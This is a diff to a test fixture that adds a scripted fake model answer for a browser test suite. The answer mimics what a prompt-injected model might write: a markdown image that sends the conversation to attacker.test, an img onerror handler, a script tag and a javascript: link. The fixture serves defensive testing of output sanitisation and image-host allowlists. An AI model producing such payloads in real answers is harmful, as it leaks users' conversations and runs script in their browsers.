@@ -65,6 +65,17 @@ MARKDOWN_ANSWER = (
     "It returns a greeting."
 )
 
+# What a prompt injection could make a model write: raw HTML that would run script, a
+# `javascript:` link, and images, one on a host the page allows (ANSWER_IMAGE_HOSTS in the
+# browser suite) and one that would carry the conversation off to another host.
+HOSTILE_ANSWER = (
+    "Here is your chart:\n\n![chart](http://images.allowed.test/chart.png)\n\n"
+    "![tracking pixel](http://attacker.test/leak.png?c=the+whole+conversation)\n\n"
+    '<img src="http://attacker.test/raw.png" onerror="window.pwned = 1">\n\n'
+    "<script>window.pwned = 2</script>\n\n"
+    "[Click me](javascript:window.pwned=3) or read [the guide](https://docs.example.test/guide)."
+)
+
 
 SCRIPTS = {
     "fake-fast": Script(tokens=20),
@@ -89,6 +100,7 @@ SCRIPTS = {
     "fake-markdown": Script(
         tokens=(len(MARKDOWN_ANSWER) + 1) // 2, delay_s=0.03, text=MARKDOWN_ANSWER
     ),
+    "fake-hostile": Script(tokens=(len(HOSTILE_ANSWER) + 1) // 2, text=HOSTILE_ANSWER),
     "fake-tool": Script(tool_calls=(("calculate", '{"expression": "6*7"}'),)),
     "fake-tools-2": Script(
         tool_calls=(("calculate", '{"expression": "6*7"}'), ("calculate", '{"expression": "2+2"}'))
